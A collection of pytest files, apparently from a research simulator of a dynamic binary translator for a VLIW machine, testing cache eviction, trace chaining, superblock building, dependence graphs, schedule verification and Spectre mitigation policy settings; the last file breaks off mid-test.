
@pytest.mark.parametrize("policy_fields", [
    {"code_cache_capacity": 6, "code_cache_policy": "flush"},
    {"code_cache_capacity": 6, "code_cache_policy": "lru"},
], ids=["flush", "lru"])
def test_capacity_events_retire_megablocks_mid_run(tmp_path, policy_fields):
    """Bounded cache shapes force evictions/flushes *while* traces are
    live: every capacity event must retire covering megablocks in the
    same safe step, and whatever survives must reference only live
    records."""
    system = _trace_system(tmp_path, **policy_fields)
    tcache = system.engine.cache.stats
    assert tcache.capacity_flushes + tcache.evictions > 0
    assert system.traces.stats.retired > 0
    _assert_megablocks_scoped(system)
    # Bit-identity survived the churn.
    program = build_kernel_program(SMALL_SIZES["atax"]())
    reference = DbtSystem(program, policy=MitigationPolicy.UNSAFE).run()
    result = system.result()
    assert (result.exit_code, result.output) == \
        (reference.exit_code, reference.output)


# ---------------------------------------------------------------------------
# Live systems: the invariant holds after real runs.
# ---------------------------------------------------------------------------

def _run_chained(program, policy=MitigationPolicy.UNSAFE, **config_fields):
    system = DbtSystem(
        program, policy=policy,
        engine_config=DbtEngineConfig(chain=True, **config_fields))
    result = system.run()
    return system, result


def _assert_chain_scoped_to_cache(system):
    """No link or record may outlive its translation."""
    chains = system.engine.chains
    installed = {block.guest_entry for block in system.engine.cache.blocks()}
    assert set(chains.records) <= installed
    for pred, out in chains._out.items():
        assert pred in installed
        for successor in out.values():
            assert successor.entry in installed
            # The record is the live one, not a stale generation.
            assert chains.records[successor.entry].block is successor.block


def test_chained_attack_records_stats():
    program = build_attack_program(AttackVariant.SPECTRE_V1, b"GB")
    system, result = _run_chained(program)
    assert result.chain is not None
    assert result.chain.links > 0
    assert result.chain.dispatches > result.chain.links
    assert set(result.chain.breaks) <= {"hot", "rollback", "syscall",
                                        "miss", "budget"}
    _assert_chain_scoped_to_cache(system)


@pytest.mark.parametrize("policy_fields", [
    {"code_cache_capacity": 6, "code_cache_policy": "flush"},
    {"code_cache_capacity": 6, "code_cache_policy": "lru"},
], ids=["flush", "lru"])
def test_chained_run_survives_capacity_events(policy_fields):
    program = build_kernel_program(SMALL_SIZES["atax"]())
    system, result = _run_chained(program, **policy_fields)
    tcache = system.engine.cache.stats
    assert tcache.capacity_flushes + tcache.evictions > 0
    _assert_chain_scoped_to_cache(system)
    # Architectural results match an unbounded, unchained run.
    reference = DbtSystem(program).run()
    assert (result.exit_code, result.output) == \
        (reference.exit_code, reference.output)


def test_chained_optimization_replaces_record():
    """After a hot block is optimized, the dispatcher must chain through
    the *optimized* generation, never the stale first-pass record."""
    program = build_kernel_program(SMALL_SIZES["atax"]())
    system, _ = _run_chained(program, hot_threshold=4)
    engine = system.engine
    assert engine.stats.optimizations > 0
    for entry, record in engine.chains.records.items():
        assert record.block is engine.cache.get(entry)


# ---------------------------------------------------------------------------
# Background compile queue: the lazily started "repro-compile" worker
# thread must never outlive its queue — neither after a normal run
# (DbtSystem.run closes in its finally) nor for a queue nobody closed
# (the atexit net joins it, so interpreter exit can't race a daemon
# thread against module teardown).
# ---------------------------------------------------------------------------

def _compile_threads():
    import threading

    return [thread for thread in threading.enumerate()
            if thread.name == "repro-compile" and thread.is_alive()]


def test_trace_run_leaves_no_compile_thread(tmp_path):
    before = len(_compile_threads())
    _trace_system(tmp_path)
    assert len(_compile_threads()) == before


def test_unclosed_queue_joined_by_atexit_net():
    from repro.dbt.tiering import CompileQueue, _close_live_queues

    queue = CompileQueue(mode="thread")
    applied = []
    queue.submit("leak-test", lambda: 42,
                 lambda artifact, error: applied.append((artifact, error)))
    # Deliberately not closed: the atexit hook must find it in the live
    # set, stop the worker, and apply what finished.
    _close_live_queues()
    assert _compile_threads() == []
    assert queue.stats.completed + queue.stats.stalled == 1
    # A closed queue leaves the live set; running the hook again after
    # an explicit close must be a no-op.
    queue2 = CompileQueue(mode="thread")
    queue2.submit("closed", lambda: 1, lambda artifact, error: None)
    queue2.close()
    assert _compile_threads() == []
    _close_live_queues()
