"""IR dependence-graph construction tests."""

from repro.dbt.ir import DepKind, Dependence, IRBlock, IRInstruction, IRKind
from repro.vliw.isa import Condition


def alu(dst, src1, src2):
    return IRInstruction(IRKind.ALU, op="add", dst=dst, src1=src1, src2=src2)


def alui(dst, src1, imm=0):
    return IRInstruction(IRKind.ALUI, op="add", dst=dst, src1=src1, imm=imm)


def load(dst, base, imm=0):
    return IRInstruction(IRKind.LOAD, dst=dst, src1=base, imm=imm)


def store(base, value, imm=0):
    return IRInstruction(IRKind.STORE, src1=base, src2=value, imm=imm)


def branch(src1=1, src2=2, target=0x100):
    return IRInstruction(IRKind.BRANCH_EXIT, condition=Condition.EQ,
                         src1=src1, src2=src2, target=target)


def jump(target=0x200):
    return IRInstruction(IRKind.JUMP_EXIT, target=target)


def block(*instructions) -> IRBlock:
    return IRBlock(entry=0x1000, instructions=list(instructions))


def edges_of(irblock, kind=None):
    return [
        (edge.src, edge.dst, edge.kind, edge.relaxable)
        for edge in irblock.dependences()
        if kind is None or edge.kind is kind
    ]


def test_raw_dependence():
    b = block(alui(5, 0, 1), alu(6, 5, 5), jump())
    data = edges_of(b, DepKind.DATA)
    assert (0, 1, DepKind.DATA, False) in data


def test_war_and_waw():
    b = block(alu(6, 5, 5), alui(5, 0, 1), alui(5, 0, 2), jump())
    kinds = edges_of(b)
    assert (0, 1, DepKind.ANTI, False) in kinds
    assert (1, 2, DepKind.OUTPUT, False) in kinds


def test_x0_never_creates_dependences():
    b = block(alui(0, 0, 1), alui(0, 0, 2), jump())
    register_edges = [e for e in b.dependences()
                      if e.kind in (DepKind.DATA, DepKind.ANTI, DepKind.OUTPUT)]
    assert register_edges == []


def test_store_load_edge_is_relaxable():
    b = block(store(1, 2), load(3, 4), jump())
    mem = edges_of(b, DepKind.MEM)
    assert (0, 1, DepKind.MEM, True) in mem


def test_load_store_edge_is_enforced():
    b = block(load(3, 4), store(1, 2), jump())
    mem = edges_of(b, DepKind.MEM)
    assert (0, 1, DepKind.MEM, False) in mem


def test_store_store_edge_is_enforced():
    b = block(store(1, 2), store(3, 4), jump())
    mem = edges_of(b, DepKind.MEM)
    assert (0, 1, DepKind.MEM, False) in mem


def test_cflush_orders_like_a_store_but_is_not_speculable():
    flush = IRInstruction(IRKind.CFLUSH, src1=1)
    b = block(flush, load(3, 4), jump())
    mem = edges_of(b, DepKind.MEM)
    assert (0, 1, DepKind.MEM, False) in mem  # not relaxable


def test_control_dependences():
    b = block(branch(), load(3, 4), store(1, 2), jump())
    ctrl = edges_of(b, DepKind.CTRL)
    assert (0, 1, DepKind.CTRL, True) in ctrl    # load: hoistable
    assert (0, 2, DepKind.CTRL, False) in ctrl   # store: pinned
    assert (0, 3, DepKind.CTRL, False) in ctrl   # exit: pinned


def test_sink_edges_point_at_exits():
    b = block(alui(5, 0, 1), load(3, 4), branch(), jump())
    sink = edges_of(b, DepKind.SINK)
    assert (0, 2, DepKind.SINK, False) in sink
    assert (1, 2, DepKind.SINK, False) in sink
    # Everything (including the first exit) must not sink below the jump.
    assert (2, 3, DepKind.SINK, False) in sink


def test_barrier_serialises_everything():
    rd = IRInstruction(IRKind.RDCYCLE, dst=5)
    b = block(load(3, 4), rd, load(6, 7), jump())
    barrier = edges_of(b, DepKind.BARRIER)
    assert (0, 1, DepKind.BARRIER, False) in barrier
    assert (1, 2, DepKind.BARRIER, False) in barrier
    assert (1, 3, DepKind.BARRIER, False) in barrier


def test_spectre_edges_are_extra():
    b = block(store(1, 2), load(3, 4), jump())
    before = len(b.dependences())
    b.add_spectre_dependence(0, 1)
    after = b.dependences()
    assert len(after) == before + 1
    spectre = [e for e in after if e.kind is DepKind.SPECTRE]
    assert spectre[0].src == 0 and spectre[0].dst == 1
    assert not spectre[0].relaxable


def test_dependences_cached_until_append():
    b = block(alui(5, 0, 1), jump())
    first = b.dependences()
    assert b.dependences() is not first  # extra list is concatenated fresh
    b.append(jump())
    assert len(b.dependences()) > 0


def test_multiple_stores_all_edge_to_later_load():
    b = block(store(1, 2), store(3, 4), load(5, 6), jump())
    mem = edges_of(b, DepKind.MEM)
    assert (0, 2, DepKind.MEM, True) in mem
    assert (1, 2, DepKind.MEM, True) in mem


def test_describe_smoke():
    b = block(alui(5, 0, 1), load(3, 4), store(1, 2), branch(), jump())
    text = b.describe()
    assert "IR block" in text and "exit" in text
