"""Translation-cache capacity behaviour and the install-time finalizer.

The cache models a fixed code-cache memory: overflowing ``capacity``
flushes the *whole* cache (production DBTs avoid partial-eviction
bookkeeping), evicted blocks retranslate and re-install, and optimized
superblocks replace first-pass translations in place.
"""

import pytest

from repro.dbt.translation_cache import TranslationCache
from repro.vliw.bundle import make_bundle
from repro.vliw.config import VliwConfig
from repro.vliw.fastpath import finalize_block
from repro.vliw.isa import VliwOp, VliwOpcode


def _block(entry: int, kind: str = "firstpass"):
    from repro.vliw.block import TranslatedBlock

    config = VliwConfig()
    bundle = make_bundle(
        [VliwOp(opcode=VliwOpcode.JUMP, target=entry + 4)], config)
    return TranslatedBlock(guest_entry=entry, bundles=(bundle,),
                           guest_length=1, kind=kind)


def test_capacity_overflow_flushes_everything():
    cache = TranslationCache(capacity=2)
    first, second, third = _block(0x100), _block(0x200), _block(0x300)
    cache.install(first)
    cache.install(second)
    assert len(cache) == 2
    cache.install(third)  # over capacity: wholesale flush, then install
    assert len(cache) == 1
    assert cache.get(0x300) is third
    assert cache.get(0x100) is None and cache.get(0x200) is None
    assert cache.stats.capacity_flushes == 1
    assert cache.stats.installs == 3


def test_evicted_block_can_be_reinstalled():
    cache = TranslationCache(capacity=1)
    first = _block(0x100)
    cache.install(first)
    cache.install(_block(0x200))  # evicts 0x100
    assert 0x100 not in cache
    retranslated = _block(0x100)
    cache.install(retranslated)  # second flush (capacity=1), re-install
    assert cache.get(0x100) is retranslated
    assert cache.stats.capacity_flushes == 2
    # Re-installation after eviction is an install, not a replacement.
    assert cache.stats.replacements == 0


def test_optimized_replaces_firstpass_without_flush():
    cache = TranslationCache(capacity=2)
    cache.install(_block(0x100))
    cache.install(_block(0x200))
    optimized = _block(0x100, kind="optimized")
    cache.install(optimized)  # same entry: replacement, no capacity event
    assert len(cache) == 2
    assert cache.get(0x100) is optimized
    assert cache.stats.replacements == 1
    assert cache.stats.capacity_flushes == 0
    reoptimized = _block(0x100, kind="reoptimized")
    cache.install(reoptimized)
    assert cache.get(0x100) is reoptimized
    assert cache.stats.replacements == 2


def test_capacity_must_be_positive():
    with pytest.raises(ValueError):
        TranslationCache(capacity=0)


def test_finalizer_runs_at_install_time():
    config = VliwConfig()
    cache = TranslationCache(
        capacity=1, finalizer=lambda b: finalize_block(b, config))
    block = _block(0x100)
    cache.install(block)
    # The block was pre-decoded during install, not on first execution.
    finalized = block._finalized
    assert finalized is not None
    assert finalize_block(block, config) is finalized  # memoized
