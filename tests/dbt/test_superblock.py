"""Superblock construction tests."""

from repro.isa.assembler import assemble
from repro.dbt.profile import ExecutionProfile
from repro.dbt.superblock import SuperblockLimits, build_superblock

LOOP = """
head:
    addi t0, t0, 1
    blt t0, t1, head
    ecall
"""

DIAMOND = """
entry:
    beq t0, t1, cold
    addi t2, t2, 1
    j join
cold:
    addi t2, t2, 2
    j join
join:
    ecall
"""


def _profile_branch(program, symbol_or_addr, taken, count=20):
    profile = ExecutionProfile()
    if isinstance(symbol_or_addr, str):
        address = program.symbol(symbol_or_addr)
    else:
        address = symbol_or_addr
    for _ in range(count):
        profile.record_branch(address, taken)
    return profile


def test_cold_branch_stops_growth():
    program = assemble(DIAMOND)
    plan = build_superblock(program, program.entry, ExecutionProfile())
    assert len(plan.path) == 1
    assert plan.final_next is None


def test_biased_not_taken_follows_fallthrough():
    program = assemble(DIAMOND)
    profile = _profile_branch(program, "entry", taken=False)
    plan = build_superblock(program, program.entry, profile)
    entries = [block.entry for block in plan.path]
    # entry block, hot arm, join (followed through the direct jumps).
    assert program.entry in entries
    assert program.symbol("join") in entries
    assert program.symbol("cold") not in entries


def test_biased_taken_follows_target():
    program = assemble(DIAMOND)
    profile = _profile_branch(program, "entry", taken=True)
    plan = build_superblock(program, program.entry, profile)
    entries = [block.entry for block in plan.path]
    assert program.symbol("cold") in entries


def test_loop_unrolls_to_size_limit():
    program = assemble(LOOP)
    profile = _profile_branch(program, program.symbol("head") + 4, taken=True, count=50)
    limits = SuperblockLimits(max_instructions=10)
    plan = build_superblock(program, program.symbol("head"), profile, limits)
    assert len(plan.path) == 5  # 2 instructions per body
    assert plan.guest_instructions == 10
    # Final branch predicted taken: back edge to head.
    assert plan.final_next == program.symbol("head")


def test_unrolling_disabled_stops_at_revisit():
    program = assemble(LOOP)
    profile = _profile_branch(program, program.symbol("head") + 4, taken=True, count=50)
    limits = SuperblockLimits(max_instructions=64, allow_unrolling=False)
    plan = build_superblock(program, program.symbol("head"), profile, limits)
    assert len(plan.path) == 1
    assert plan.final_next == program.symbol("head")


def test_trace_stops_at_return():
    program = assemble("""
fn:
    addi t0, t0, 1
    ret
""")
    plan = build_superblock(program, program.symbol("fn"), ExecutionProfile())
    assert len(plan.path) == 1
    assert plan.final_next is None


def test_trace_stops_at_call():
    program = assemble("""
main:
    addi t0, t0, 1
    call helper
helper:
    ret
""")
    plan = build_superblock(program, program.symbol("main"), ExecutionProfile())
    assert len(plan.path) == 1


def test_trace_follows_direct_jump():
    program = assemble("""
a:
    addi t0, t0, 1
    j b
b:
    ecall
""")
    plan = build_superblock(program, program.symbol("a"), ExecutionProfile())
    entries = [block.entry for block in plan.path]
    assert entries == [program.symbol("a"), program.symbol("b")]


def test_weakly_biased_final_branch_prediction_is_conservative():
    program = assemble(LOOP)
    profile = ExecutionProfile()
    address = program.symbol("head") + 4
    profile.record_branch(address, True)
    profile.record_branch(address, False)
    plan = build_superblock(program, program.symbol("head"), profile)
    # Bias too weak: growth stops after one block, no final prediction.
    assert len(plan.path) == 1
