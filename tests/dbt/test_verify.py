"""Schedule-verifier tests, including its use as a property check."""

import pytest

from repro.isa.assembler import assemble
from repro.dbt.blocks import discover_block
from repro.dbt.codegen import sequential_translate
from repro.dbt.irbuilder import build_ir
from repro.dbt.scheduler import SchedulerOptions, schedule_block
from repro.dbt.verify import ScheduleViolation, check_schedule
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.dbt.profile import ExecutionProfile
from repro.dbt.superblock import build_superblock
from repro.vliw.block import TranslatedBlock
from repro.vliw.bundle import Bundle
from repro.vliw.config import VliwConfig
from repro.vliw.isa import VliwOp, VliwOpcode

CONFIG = VliwConfig()

SOURCES = [
    """
    addi t0, zero, 5
    add t1, t0, t0
    ld t2, 0(t1)
    sd t2, 8(t1)
    ecall
""",
    """
    li t3, 1000
    li t4, 7
    div t5, t3, t4
    sd t5, 0(s2)
    ld a0, 0(s2)
    add t1, s0, a0
    lbu a1, 0(t1)
    ecall
""",
]


def _ir(source):
    program = assemble(source)
    return build_ir([discover_block(program, program.entry)])


@pytest.mark.parametrize("source", SOURCES)
@pytest.mark.parametrize("options", [
    SchedulerOptions(),
    SchedulerOptions(branch_speculation=False, memory_speculation=False),
    SchedulerOptions(max_speculative_loads=1),
])
def test_scheduler_output_verifies(source, options):
    ir = _ir(source)
    block = schedule_block(ir, CONFIG, options)
    check_schedule(ir, block, CONFIG)


@pytest.mark.parametrize("source", SOURCES)
def test_sequential_translation_verifies(source):
    ir = _ir(source)
    check_schedule(ir, sequential_translate(ir, CONFIG), CONFIG)


def test_kernel_superblocks_verify():
    """Property-style: every optimized trace of real kernels is legal."""
    for name in ("gemm", "jacobi-1d", "trisolv"):
        program = build_kernel_program(SMALL_SIZES[name]())
        # Train a profile by interpreting branch outcomes cheaply: run the
        # platform and then re-verify every optimized block it produced.
        from repro.platform.system import DbtSystem
        from repro.dbt.engine import DbtEngineConfig
        system = DbtSystem(program, engine_config=DbtEngineConfig(hot_threshold=4))
        system.run()
        checked = 0
        for block in system.engine.cache.blocks():
            if block.kind != "optimized":
                continue
            plan = build_superblock(
                program, block.guest_entry, system.engine.profile,
                system.engine.config.superblock,
            )
            ir = build_ir(plan.path, plan.final_next)
            if ir.guest_length != block.guest_length:
                continue  # profile drifted since translation; skip
            check_schedule(ir, block, CONFIG)
            checked += 1
        assert checked > 0, name


def test_missing_instruction_detected():
    ir = _ir(SOURCES[0])
    block = sequential_translate(ir, CONFIG)
    truncated = TranslatedBlock(
        guest_entry=block.guest_entry,
        bundles=block.bundles[1:],
        guest_length=block.guest_length,
    )
    with pytest.raises(ScheduleViolation, match="no scheduled counterpart"):
        check_schedule(ir, truncated, CONFIG)


def test_reordered_dependence_detected():
    ir = _ir(SOURCES[0])
    block = sequential_translate(ir, CONFIG)
    reversed_block = TranslatedBlock(
        guest_entry=block.guest_entry,
        bundles=tuple(reversed(block.bundles)),
        guest_length=block.guest_length,
    )
    with pytest.raises(ScheduleViolation):
        check_schedule(ir, reversed_block, CONFIG)


def test_illegal_mem_relaxation_detected():
    # Hand-build: load above store WITHOUT the speculative opcode.
    ir = _ir("""
    sd t2, 0(s2)
    ld t3, 0(s3)
    ecall
""")
    bad = TranslatedBlock(
        guest_entry=ir.entry,
        bundles=(
            Bundle(ops=(VliwOp(VliwOpcode.LOAD, dest=28, src1=19, origin=1),)),
            Bundle(ops=(VliwOp(VliwOpcode.STORE, src1=18, src2=7, origin=0),)),
            Bundle(ops=(VliwOp(VliwOpcode.SYSCALL, target=ir.instructions[-1].target, origin=2),)),
        ),
        guest_length=3,
    )
    with pytest.raises(ScheduleViolation, match="illegally relaxed"):
        check_schedule(ir, bad, CONFIG)


def test_mcb_capacity_violation_detected():
    config = VliwConfig(mcb_entries=1)
    ir = _ir("""
    sd t2, 0(s2)
    ld t3, 0(s3)
    ld t4, 8(s3)
    ecall
""")
    bad = TranslatedBlock(
        guest_entry=ir.entry,
        bundles=(
            Bundle(ops=(VliwOp(VliwOpcode.LOAD, dest=28, src1=19,
                               speculative=True, spec_tag=1, origin=1),)),
            Bundle(ops=(VliwOp(VliwOpcode.LOAD, dest=29, src1=19, imm=8,
                               speculative=True, spec_tag=2, origin=2),)),
            Bundle(ops=(VliwOp(VliwOpcode.STORE, src1=18, src2=7,
                               mcb_releases=(1, 2), origin=0),)),
            Bundle(ops=(VliwOp(VliwOpcode.SYSCALL,
                               target=ir.instructions[-1].target, origin=3),)),
        ),
        guest_length=4,
    )
    with pytest.raises(ScheduleViolation, match="MCB"):
        check_schedule(ir, bad, config)
