"""IR -> VLIW lowering table tests."""

import pytest

from repro.dbt.codegen import CodegenError, sequential_translate, vliw_op_from_ir
from repro.dbt.ir import IRBlock, IRInstruction, IRKind
from repro.vliw.config import VliwConfig
from repro.vliw.isa import Condition, VliwOpcode

CONFIG = VliwConfig()


def test_alu_lowering():
    op = vliw_op_from_ir(IRInstruction(
        IRKind.ALU, op="mul", dst=3, src1=1, src2=2,
    ))
    assert op.opcode is VliwOpcode.ALU
    assert (op.alu_op, op.dest, op.src1, op.src2) == ("mul", 3, 1, 2)


def test_alui_lowering_uses_immediate():
    op = vliw_op_from_ir(IRInstruction(
        IRKind.ALUI, op="add", dst=3, src1=1, imm=-7,
    ))
    assert op.src2 is None and op.imm == -7


def test_load_store_lowering_preserves_width_and_sign():
    load = vliw_op_from_ir(IRInstruction(
        IRKind.LOAD, dst=4, src1=5, imm=16, width=1, signed=False,
    ))
    assert load.opcode is VliwOpcode.LOAD
    assert (load.width, load.signed, load.imm) == (1, False, 16)
    assert not load.speculative
    store = vliw_op_from_ir(IRInstruction(
        IRKind.STORE, src1=5, src2=6, imm=8, width=4,
    ))
    assert store.opcode is VliwOpcode.STORE
    assert (store.src1, store.src2, store.width) == (5, 6, 4)


def test_exit_lowerings():
    branch = vliw_op_from_ir(IRInstruction(
        IRKind.BRANCH_EXIT, condition=Condition.LTU, src1=1, src2=2, target=0x40,
    ))
    assert branch.opcode is VliwOpcode.BRANCH
    assert branch.condition is Condition.LTU and branch.target == 0x40
    jump = vliw_op_from_ir(IRInstruction(IRKind.JUMP_EXIT, target=0x80))
    assert jump.opcode is VliwOpcode.JUMP
    indirect = vliw_op_from_ir(IRInstruction(IRKind.INDIRECT_EXIT, src1=1, imm=4))
    assert indirect.opcode is VliwOpcode.JUMPR and indirect.imm == 4
    syscall = vliw_op_from_ir(IRInstruction(IRKind.SYSCALL_EXIT, target=0xC0))
    assert syscall.opcode is VliwOpcode.SYSCALL


def test_source_remapping_and_dest_override():
    inst = IRInstruction(IRKind.ALU, op="add", dst=3, src1=1, src2=2)
    op = vliw_op_from_ir(inst, src_map=lambda r: r + 40, dest_override=55)
    assert (op.dest, op.src1, op.src2) == (55, 41, 42)


def test_misc_lowerings():
    assert vliw_op_from_ir(IRInstruction(IRKind.LI, dst=1, imm=9)).opcode is VliwOpcode.LI
    assert vliw_op_from_ir(IRInstruction(IRKind.MOV, dst=1, src1=2)).opcode is VliwOpcode.MOV
    assert vliw_op_from_ir(IRInstruction(IRKind.FENCE)).opcode is VliwOpcode.FENCE
    assert vliw_op_from_ir(IRInstruction(IRKind.CFLUSH, src1=1)).opcode is VliwOpcode.CFLUSH
    assert vliw_op_from_ir(IRInstruction(IRKind.RDCYCLE, dst=1)).opcode is VliwOpcode.RDCYCLE
    assert vliw_op_from_ir(IRInstruction(IRKind.RDINSTRET, dst=1)).opcode is VliwOpcode.RDINSTRET


def test_origin_carried_through():
    inst = IRInstruction(IRKind.LI, dst=1, imm=0, guest_index=17)
    assert vliw_op_from_ir(inst).origin == 17


def test_sequential_translate_one_op_per_bundle():
    block = IRBlock(entry=0x1000, instructions=[
        IRInstruction(IRKind.LI, dst=1, imm=1),
        IRInstruction(IRKind.ALU, op="add", dst=2, src1=1, src2=1),
        IRInstruction(IRKind.JUMP_EXIT, target=0x2000),
    ])
    block.guest_length = 3
    translated = sequential_translate(block, CONFIG)
    assert translated.num_bundles == 3
    assert all(len(bundle) == 1 for bundle in translated.bundles)
    assert translated.kind == "firstpass"
    assert translated.exits == (0x2000,)


def test_sequential_translate_rejects_empty():
    with pytest.raises(CodegenError):
        sequential_translate(IRBlock(entry=0), CONFIG)
