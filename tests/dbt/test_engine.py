"""DBT engine integration tests: translation, profiling, optimization."""

import pytest

from repro.isa.assembler import assemble
from repro.dbt.engine import DbtEngine, DbtEngineConfig
from repro.security.policy import MitigationPolicy
from repro.platform.system import DbtSystem

LOOP_PROGRAM = """
_start:
    li t0, 0
    li t1, 40
head:
    addi t0, t0, 1
    blt t0, t1, head
    mv a0, t0
    li a7, 93
    ecall
"""


def test_lookup_translates_on_miss():
    program = assemble(LOOP_PROGRAM)
    engine = DbtEngine(program)
    block = engine.lookup(program.entry)
    assert block.kind == "firstpass"
    assert engine.stats.first_pass_translations == 1
    # Second lookup hits the cache.
    assert engine.lookup(program.entry) is block
    assert engine.stats.first_pass_translations == 1


def test_hot_block_gets_optimized():
    program = assemble(LOOP_PROGRAM)
    system = DbtSystem(program, engine_config=DbtEngineConfig(hot_threshold=8))
    result = system.run()
    assert result.exit_code == 40
    engine = system.engine
    assert engine.stats.optimizations >= 1
    head = program.symbol("head")
    optimized = engine.cache.get(head)
    assert optimized is not None and optimized.kind == "optimized"
    # Unrolling happened: more guest instructions than the basic block.
    assert optimized.guest_length > 2


def test_cold_code_is_never_optimized():
    program = assemble(LOOP_PROGRAM)
    system = DbtSystem(program, engine_config=DbtEngineConfig(hot_threshold=1000))
    system.run()
    assert system.engine.stats.optimizations == 0


def test_policy_controls_scheduler_options():
    program = assemble(LOOP_PROGRAM)
    for policy, expected in [
        (MitigationPolicy.UNSAFE, True),
        (MitigationPolicy.GHOSTBUSTERS, True),
        (MitigationPolicy.FENCE, True),
        (MitigationPolicy.NO_SPECULATION, False),
    ]:
        engine = DbtEngine(program, policy=policy)
        options = engine.scheduler_options()
        assert options.branch_speculation is expected
        assert options.memory_speculation is expected


def test_analysis_runs_only_for_analyzing_policies():
    source = LOOP_PROGRAM
    program = assemble(source)
    for policy in (MitigationPolicy.GHOSTBUSTERS, MitigationPolicy.FENCE):
        system = DbtSystem(program, policy=policy,
                           engine_config=DbtEngineConfig(hot_threshold=4))
        system.run()
        assert system.engine.reports  # poison reports recorded
    system = DbtSystem(program, policy=MitigationPolicy.UNSAFE,
                       engine_config=DbtEngineConfig(hot_threshold=4))
    system.run()
    assert not system.engine.reports


def test_branch_profile_collected():
    program = assemble(LOOP_PROGRAM)
    system = DbtSystem(program, engine_config=DbtEngineConfig(hot_threshold=10**9))
    system.run()
    branch = system.engine.profile.branch(program.symbol("head") + 4)
    assert branch is not None
    assert branch.taken == 39
    assert branch.not_taken == 1


def test_optimization_cap():
    program = assemble(LOOP_PROGRAM)
    config = DbtEngineConfig(hot_threshold=2, max_optimizations=0)
    system = DbtSystem(program, engine_config=config)
    system.run()
    assert system.engine.stats.optimizations == 0


def test_build_ir_for_inspection():
    program = assemble(LOOP_PROGRAM)
    system = DbtSystem(program, engine_config=DbtEngineConfig(hot_threshold=8))
    system.run()
    ir = system.engine.build_ir_for(program.symbol("head"))
    assert len(ir) > 0
    assert ir.entry == program.symbol("head")


# ---------------------------------------------------------------------------
# Eviction scoping of per-translation bookkeeping.
# ---------------------------------------------------------------------------

def _engine_with_capacity(policy_name, capacity):
    program = assemble(LOOP_PROGRAM)
    engine = DbtEngine(program, config=DbtEngineConfig(
        code_cache_capacity=capacity, code_cache_policy=policy_name))
    return engine


def _synthetic_block(entry):
    from repro.vliw.bundle import make_bundle
    from repro.vliw.block import TranslatedBlock
    from repro.vliw.config import VliwConfig
    from repro.vliw.isa import VliwOp, VliwOpcode

    bundle = make_bundle(
        [VliwOp(opcode=VliwOpcode.JUMP, target=entry + 4)], VliwConfig())
    return TranslatedBlock(guest_entry=entry, bundles=(bundle,),
                           guest_length=1, kind="optimized")


def test_lru_eviction_clears_stale_engine_bookkeeping():
    """Regression: LRU capacity evictions dropped the translation but
    left the engine's per-entry poison report and MCB rollback count
    behind, so a later re-translation at the same entry inherited a
    stale report and a half-spent rollback budget."""
    engine = _engine_with_capacity("lru", 2)
    for entry in (0x100, 0x200):
        engine.cache.install(_synthetic_block(entry))
        engine.reports[entry] = object()
        engine._rollback_counts[entry] = 2
    engine.cache.install(_synthetic_block(0x300))  # evicts LRU 0x100
    assert 0x100 not in engine.cache
    assert 0x100 not in engine.reports
    assert 0x100 not in engine._rollback_counts
    # The survivor's bookkeeping is untouched.
    assert 0x200 in engine.reports and engine._rollback_counts[0x200] == 2


def test_capacity_flush_clears_stale_engine_bookkeeping():
    """Same regression, wholesale-flush flavour: a capacity flush drops
    every translation, so every report and rollback count must go."""
    engine = _engine_with_capacity("flush", 2)
    for entry in (0x100, 0x200):
        engine.cache.install(_synthetic_block(entry))
        engine.reports[entry] = object()
        engine._rollback_counts[entry] = 1
    engine.cache.install(_synthetic_block(0x300))
    assert engine.cache.stats.capacity_flushes == 1
    assert engine.reports == {}
    assert engine._rollback_counts == {}


def test_run_with_capacity_keeps_bookkeeping_scoped():
    """End to end: after a bounded run, no report or rollback count may
    describe an entry the cache no longer holds."""
    program = assemble(LOOP_PROGRAM)
    for policy_name in ("flush", "lru"):
        system = DbtSystem(
            program, policy=MitigationPolicy.GHOSTBUSTERS,
            engine_config=DbtEngineConfig(
                hot_threshold=4, conflict_retranslate_threshold=2,
                code_cache_capacity=2, code_cache_policy=policy_name))
        system.run()
        engine = system.engine
        installed = {block.guest_entry for block in engine.cache.blocks()}
        assert set(engine.reports) <= installed
        assert set(engine._rollback_counts) <= installed
