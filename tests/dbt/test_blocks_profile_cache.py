"""Basic-block discovery, profiling and translation-cache tests."""

import pytest

from repro.isa.assembler import assemble
from repro.dbt.blocks import BlockDiscoveryError, discover_block
from repro.dbt.profile import ExecutionProfile
from repro.dbt.translation_cache import TranslationCache
from repro.vliw.block import TranslatedBlock
from repro.vliw.bundle import Bundle
from repro.vliw.isa import VliwOp, VliwOpcode


# ---------------------------------------------------------------------------
# Block discovery.
# ---------------------------------------------------------------------------

def test_block_ends_at_branch():
    program = assemble("""
    addi t0, t0, 1
    addi t1, t1, 2
    beq t0, t1, 0
    addi t2, t2, 3
    ecall
""")
    block = discover_block(program, program.entry)
    assert block.size == 3
    assert block.terminator.is_branch
    assert block.fallthrough == program.entry + 12


def test_block_ends_at_ecall_and_jal():
    program = assemble("""
    ecall
    j 0
""")
    first = discover_block(program, program.entry)
    assert first.size == 1
    second = discover_block(program, program.entry + 4)
    assert second.terminator.is_jump


def test_successors():
    program = assemble("""
a:
    beq t0, t1, a
    ret
""")
    block = discover_block(program, program.entry)
    taken, fallthrough = block.successors()
    assert taken == program.entry
    assert fallthrough == program.entry + 4
    ret_block = discover_block(program, program.entry + 4)
    assert ret_block.successors() == (None,)


def test_branch_targets():
    program = assemble("""
a:
    bne t0, t1, a
    ecall
""")
    block = discover_block(program, program.entry)
    assert block.branch_targets() == (program.entry, program.entry + 4)
    ecall_block = discover_block(program, program.entry + 4)
    assert ecall_block.branch_targets() is None


def test_discovery_outside_text_rejected():
    program = assemble("ecall")
    with pytest.raises(BlockDiscoveryError):
        discover_block(program, 0xDEAD0000)


def test_runaway_block_rejected():
    # A block that never reaches a terminator before the text ends.
    program = assemble("nop\nnop\nnop")
    with pytest.raises(BlockDiscoveryError):
        discover_block(program, program.entry)


# ---------------------------------------------------------------------------
# Profile.
# ---------------------------------------------------------------------------

def test_block_counting():
    profile = ExecutionProfile()
    assert profile.record_block(0x100) == 1
    assert profile.record_block(0x100) == 2
    assert profile.block_count(0x100) == 2
    assert profile.block_count(0x200) == 0


def test_branch_bias():
    profile = ExecutionProfile()
    for _ in range(9):
        profile.record_branch(0x40, taken=True)
    profile.record_branch(0x40, taken=False)
    branch = profile.branch(0x40)
    assert branch.total == 10
    assert branch.bias == pytest.approx(0.9)
    assert branch.predicted_taken


def test_predicted_direction_thresholds():
